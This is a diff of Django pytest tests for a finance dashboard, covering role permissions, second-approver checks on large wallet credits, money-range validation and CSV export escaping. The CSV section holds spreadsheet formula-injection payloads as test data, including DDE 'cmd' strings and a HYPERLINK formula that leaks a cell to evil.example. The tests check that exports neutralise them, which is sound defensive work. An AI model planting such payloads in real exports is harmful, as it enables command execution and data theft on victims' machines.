@@ -13,16 +13,16 @@ from django.urls import reverse
 
 from orders.dashboard.finance import ORDER_COLUMNS
 from orders.enums import OrderStatus, RefundStatus, WalletEntryKind
-from orders.models import Order, RefundReview, Wallet, WalletEntry
+from orders.models import AuditEvent, Order, RefundReview, Wallet, WalletCreditRequest, WalletEntry
 from orders.services.actors import Actor
-from orders.services.wallets import wallet_top_up
+from orders.services.wallets import wallet_debit, wallet_top_up
 from tests.dashboard.conftest import CARD_NUMBER, PIN, REFERENCE, client_for
 from tests.factories import ClientFactory, OrderFactory, UserFactory, WalletFactory
 from tests.services.test_finance import refundable_order
 
 pytestmark = pytest.mark.django_db
 
-OK, REDIRECT, FORBIDDEN = 200, 302, 403
+OK, REDIRECT, BAD, FORBIDDEN = 200, 302, 400, 403
 ROLES = ["support", "finance", "inventory", "admin"]
 
 # (name, method, expected status per role in ROLES order)
@@ -31,9 +31,12 @@ MATRIX = [
     ("refund_decide", "post", [FORBIDDEN, REDIRECT, FORBIDDEN, REDIRECT]),
     ("wallet_list", "get", [FORBIDDEN, OK, FORBIDDEN, OK]),
     ("wallet_detail", "get", [FORBIDDEN, OK, FORBIDDEN, OK]),
-    ("wallet_top_up", "post", [FORBIDDEN, REDIRECT, FORBIDDEN, REDIRECT]),
+    # An empty money form is re-rendered with its errors (400), never redirected away.
+    ("wallet_top_up", "post", [FORBIDDEN, BAD, FORBIDDEN, BAD]),
     # Adjustments are for superusers only: no role holds orders.change_wallet.
-    ("wallet_adjust", "post", [FORBIDDEN, FORBIDDEN, FORBIDDEN, REDIRECT]),
+    ("wallet_adjust", "post", [FORBIDDEN, FORBIDDEN, FORBIDDEN, BAD]),
+    ("credit_queue", "get", [FORBIDDEN, OK, FORBIDDEN, OK]),
+    ("credit_decide", "post", [FORBIDDEN, REDIRECT, FORBIDDEN, REDIRECT]),
     ("export_orders", "get", [FORBIDDEN, OK, FORBIDDEN, OK]),
     ("export_refunds", "get", [FORBIDDEN, OK, FORBIDDEN, OK]),
     ("export_ledger", "get", [FORBIDDEN, OK, FORBIDDEN, OK]),
@@ -49,6 +52,15 @@ def wallet():
 
 
 def _url(name: str, wallet: Wallet) -> str:
+    if name == "credit_decide":
+        credit = WalletCreditRequest.objects.create(
+            wallet=wallet,
+            kind="TOP_UP",
+            amount=Decimal("5000.00"),
+            reason="matrix",
+            requested_by=UserFactory(username="credit-maker"),
+        )
+        return reverse("dashboard:credit_decide", args=[credit.pk])
     if name in WALLET_VIEWS:
         return reverse(f"dashboard:{name}", args=[wallet.pk])
     return reverse(f"dashboard:{name}")
@@ -264,6 +276,199 @@ def test_adjust_by_admin_is_signed_and_refused_below_zero(as_role, wallet):
     assert wallet.balance == Decimal("60.00")
 
 
+# --- Maker-checker on money in ---------------------------------------------------
+
+
+@pytest.fixture
+def _credit_limit(settings):
+    settings.WALLET_CREDIT_SECOND_APPROVAL_LIMIT = Decimal("1000.00")
+
+
+@pytest.mark.usefixtures("_credit_limit")
+def test_one_finance_user_cannot_credit_a_million_alone(as_role, users, wallet):
+    """Issue 11, finding 2: the top-up waits in the queue until a different user approves."""
+    maker = as_role("finance")
+    url = reverse("dashboard:wallet_top_up", args=[wallet.pk])
+
+    response = maker.post(url, {"amount": "1000000.00", "reason": "goodwill"}, follow=True)
+
+    html = response.content.decode()
+    assert "waiting for a second approver" in html
+    wallet.refresh_from_db()
+    assert wallet.balance == Decimal("100.00")
+    credit = WalletCreditRequest.objects.get(wallet=wallet)
+    assert f'id="credit-{credit.pk}"' in html  # the wallet page lists it
+    assert "1,000,000.00 USD" in html
+
+    queue = maker.get(reverse("dashboard:credit_queue")).content.decode()
+    assert f'id="credit-{credit.pk}"' in queue and wallet.client.name in queue
+    assert "finance-user" in queue and "goodwill" in queue
+    assert 'value="APPROVE"' not in queue  # no approve button for the maker
+
+    own = maker.post(
+        reverse("dashboard:credit_decide", args=[credit.pk]),
+        {"decision": "APPROVE", "note": ""},
+        follow=True,
+    )
+    assert "the second approval must come from a different user" in own.content.decode()
+    credit.refresh_from_db()
+    assert credit.status == WalletCreditRequest.Status.PENDING
+
+    checker = client_for(UserFactory(username="finance-two", role="finance"))
+    fragment = checker.post(
+        reverse("dashboard:credit_decide", args=[credit.pk]),
+        {"decision": "APPROVE", "note": "contract 7"},
+        HTTP_HX_REQUEST="true",
+    )
+    body = fragment.content.decode()
+    assert fragment.status_code == 200 and "<html" not in body
+    assert body.lstrip().startswith('<section id="credit-results"')
+    assert f"Credit request {credit.pk}: top-up of 1000000.00 USD approved" in body
+    assert f'id="credit-{credit.pk}"' not in body
+    assert fragment["HX-Trigger"] == "creditsChanged"
+    wallet.refresh_from_db()
+    assert wallet.balance == Decimal("1000100.00")
+    actions = set(AuditEvent.objects.values_list("action", flat=True))
+    assert {"wallet.credit_request", "wallet.credit_approve", "wallet.top_up"} <= actions
+
+
+@pytest.mark.usefixtures("_credit_limit")
+def test_a_small_top_up_still_moves_at_once(as_role, wallet):
+    response = as_role("finance").post(
+        reverse("dashboard:wallet_top_up", args=[wallet.pk]),
+        {"amount": "1000.00", "reason": "Wire 9"},
+        HTTP_HX_REQUEST="true",
+    )
+    assert "Top-up: 1000.00 USD, balance now 1100.00." in response.content.decode()
+    assert not WalletCreditRequest.objects.exists()
+
+
+@pytest.mark.usefixtures("_credit_limit")
+def test_reject_from_the_wallet_page_needs_a_note_and_returns_there(as_role, users, wallet):
+    as_role("finance").post(
+        reverse("dashboard:wallet_top_up", args=[wallet.pk]),
+        {"amount": "5000.00", "reason": "Wire 10"},
+    )
+    credit = WalletCreditRequest.objects.get()
+    checker = as_role("admin")
+    url = reverse("dashboard:credit_decide", args=[credit.pk])
+
+    refused = checker.post(url, {"decision": "REJECT", "note": "", "return_to": "wallet"})
+    assert refused.status_code == 302
+    assert refused["Location"] == reverse("dashboard:wallet_detail", args=[wallet.pk])
+    assert "A reject needs a note saying why." in checker.get(refused["Location"]).content.decode()
+
+    done = checker.post(
+        url, {"decision": "REJECT", "note": "no wire seen", "return_to": "wallet"}, follow=True
+    )
+    assert f"Credit request {credit.pk}: top-up of 5000.00 USD rejected." in done.content.decode()
+    credit.refresh_from_db()
+    assert (credit.status, credit.decision_note) == ("REJECTED", "no wire seen")
+    wallet.refresh_from_db()
+    assert wallet.balance == Decimal("100.00")
+
+
+@pytest.mark.usefixtures("_credit_limit")
+def test_a_large_adjustment_waits_for_a_second_admin(as_role, users, wallet):
+    system = Actor.system("test")
+    wallet_top_up(wallet_id=wallet.pk, amount="2900.00", actor=system, note="more")
+    as_role("admin").post(
+        reverse("dashboard:wallet_adjust", args=[wallet.pk]),
+        {"amount": "-2500.00", "reason": "Reverse wire"},
+    )
+    credit = WalletCreditRequest.objects.get(kind="ADJUSTMENT")
+    url = reverse("dashboard:credit_decide", args=[credit.pk])
+
+    finance = as_role("finance")
+    queue = finance.get(reverse("dashboard:credit_queue")).content.decode()
+    assert "An admin approves adjustments" in queue
+    refused = finance.post(url, {"decision": "APPROVE"}, follow=True)
+    assert "only an admin decides on an adjustment" in refused.content.decode()
+    credit.refresh_from_db()
+    assert credit.status == WalletCreditRequest.Status.PENDING
+
+    wallet_debit(wallet_id=wallet.pk, amount="1000.00", actor=system)
+    second_admin = client_for(UserFactory(username="admin-two", role="admin"))
+    poor = second_admin.post(url, {"decision": "APPROVE"}, follow=True)
+    assert "Insufficient wallet balance" in poor.content.decode()
+    credit.refresh_from_db()
+    assert credit.status == WalletCreditRequest.Status.PENDING  # nothing half-done
+
+    wallet_top_up(wallet_id=wallet.pk, amount="1000.00", actor=system, note="back")
+    done = second_admin.post(url, {"decision": "APPROVE"}, follow=True)
+    assert "adjustment of -2500.00 USD approved, balance now 500.00" in done.content.decode()
+    wallet.refresh_from_db()
+    assert wallet.balance == Decimal("500.00")
+
+
+# --- Money range on every dashboard money field -----------------------------------
+
+OUT_OF_RANGE = [
+    "999999999999.99",  # fits the column, but not on top of the balance
+    "999999999999.999",
+    "1000000000000.00",
+    "99999999999999999999",
+    "1e400",
+    "-1e400",
+    "NaN",
+    "Infinity",
+    "-Infinity",
+    "10.001",
+    "abc",
+]
+
+
+@pytest.mark.parametrize("htmx", [False, True])
+@pytest.mark.parametrize("amount", [*OUT_OF_RANGE, "-10.00", "0"])
+def test_top_up_answers_a_form_error_for_any_out_of_range_amount(as_role, wallet, amount, htmx):
+    headers = {"HTTP_HX_REQUEST": "true"} if htmx else {}
+    response = as_role("finance").post(
+        reverse("dashboard:wallet_top_up", args=[wallet.pk]),
+        {"amount": amount, "reason": "range"},
+        **headers,
+    )
+
+    html = response.content.decode()
+    assert response.status_code == 400
+    assert 'id="top-up-amount-error"' in html and 'aria-invalid="true"' in html
+    assert ("<html" in html) is not htmx
+    assert f'value="{amount}"' in html  # the form keeps what was typed
+    wallet.refresh_from_db()
+    assert wallet.balance == Decimal("100.00")
+    assert WalletEntry.objects.filter(wallet=wallet).count() == 1
+    assert not WalletCreditRequest.objects.exists()
+
+
+@pytest.mark.parametrize("amount", [*OUT_OF_RANGE, "-999999999999.999", "0"])
+def test_adjustment_answers_a_form_error_for_any_out_of_range_amount(as_role, wallet, amount):
+    response = as_role("admin").post(
+        reverse("dashboard:wallet_adjust", args=[wallet.pk]), {"amount": amount, "reason": "r"}
+    )
+
+    assert response.status_code == 400
+    assert 'id="adjust-amount-error"' in response.content.decode()
+    wallet.refresh_from_db()
+    assert wallet.balance == Decimal("100.00")
+    assert not WalletCreditRequest.objects.exists()
+
+
+def test_a_credit_past_the_largest_balance_says_so(as_role, wallet):
+    response = as_role("finance").post(
+        reverse("dashboard:wallet_top_up", args=[wallet.pk]),
+        {"amount": "999999999999.99", "reason": "overflow"},
+    )
+    assert response.status_code == 400
+    assert "above the largest balance a wallet can hold" in response.content.decode()
+
+
+@pytest.mark.parametrize("name", ["refund_queue", "export_refunds"])
+@pytest.mark.parametrize("field", ["amount_min", "amount_max"])
+@pytest.mark.parametrize("amount", ["1e400", "99999999999999999999", "NaN", "-1.00", "1.001"])
+def test_refund_amount_filters_refuse_out_of_range_amounts(as_role, name, field, amount):
+    response = as_role("finance").get(reverse(f"dashboard:{name}"), {field: amount})
+    assert response.status_code == 400
+
+
 # --- CSV exports ------------------------------------------------------------------
 
 
@@ -452,3 +657,86 @@ def test_order_list_offers_the_csv_export_with_its_filters_to_finance_only(users
     assert reverse("dashboard:export_orders") + "?status=FAILED" in finance_html
     support_html = client_for(users["support"]).get(url).content.decode()
     assert reverse("dashboard:export_orders") not in support_html
+
+
+# --- CSV formula injection (OWASP) ------------------------------------------------
+
+CALC = "=cmd|'/ccalc'!a0@example.com"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+
+
+def test_orders_export_neutralises_cells_a_spreadsheet_would_run(as_role):
+    """Issue 11, finding 6: a customer's e-mail reaches the orders export as text."""
+    client = ClientFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    formula = OrderFactory(
+        client=client,
+        reference_code="+1+cmd|'/ccalc'!A0",
+        product_name="-2+3",
+        customer_name=CALC,
+        customer_email=CALC,
+        placed_at=datetime(2025, 1, 1, tzinfo=UTC),
+    )
+    control = OrderFactory(
+        client=client,
+        reference_code="\tTAB",
+        product_name="\r=CR",
+        customer_email="grace@example.com",
+        placed_at=datetime(2025, 1, 2, tzinfo=UTC),
+    )
+    plain_number = OrderFactory(
+        client=client,
+        reference_code="-10.00",
+        product_name="+42",
+        placed_at=datetime(2025, 1, 3, tzinfo=UTC),
+    )
+
+    rows = _csv_rows(
+        as_role("finance").get(
+            reverse("dashboard:export_orders"), {"client": client.pk, "sort": "oldest"}
+        )
+    )
+    cells = {int(row[0]): dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
+    first, second, third = cells[formula.pk], cells[control.pk], cells[plain_number.pk]
+    assert first["customer_email"] == "'" + CALC
+    assert first["client"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert first["reference_code"] == "'+1+cmd|'/ccalc'!A0"
+    assert first["product"] == "'-2+3"
+    assert (second["reference_code"], second["product"]) == ("'\tTAB", "'\r=CR")
+    assert second["customer_email"] == "grace@example.com"
+    # Plain numbers stay numbers, in text columns and money columns alike.
+    assert (third["reference_code"], third["product"]) == ("-10.00", "+42")
+    assert first["amount"] == str(formula.amount) and first["quantity"] == str(formula.quantity)
+
+
+def test_ledger_export_neutralises_a_formula_reason_and_keeps_signed_amounts(as_role, wallet):
+    system = Actor.system("test")
+    wallet_top_up(wallet_id=wallet.pk, amount="5.00", actor=system, note=HYPERLINK)
+    as_role("admin").post(
+        reverse("dashboard:wallet_adjust", args=[wallet.pk]),
+        {"amount": "-10.00", "reason": "-10.00"},
+    )
+
+    rows = _csv_rows(as_role("finance").get(reverse("dashboard:export_ledger", args=[wallet.pk])))
+    adjustment, top_up, _opening = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
+    assert top_up["note"] == "'" + HYPERLINK
+    assert (top_up["amount"], top_up["balance_after"]) == ("5.00", "105.00")
+    assert (adjustment["amount"], adjustment["note"]) == ("-10.00", "-10.00")
+    assert adjustment["balance_after"] == "95.00"
+
+
+def test_refunds_export_neutralises_a_formula_reviewer_name(as_role):
+    order = refundable_order(amount="30.00")
+    reviewer = UserFactory(username="@evil", role="finance")
+    client_for(reviewer).post(
+        reverse("dashboard:refund_decide"),
+        {"order": [order.pk], "decision": "HOLD", "note": "look"},
+    )
+    Order.objects.filter(pk=order.pk).update(customer_email=CALC)
+
+    rows = _csv_rows(
+        as_role("finance").get(reverse("dashboard:export_refunds"), {"include_stopped": "on"})
+    )
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["latest_reviewer"] == "'@evil"
+    assert row["customer_email"] == "'" + CALC
+    assert (row["latest_decision"], row["refund_amount"]) == ("HOLD", "30.00")
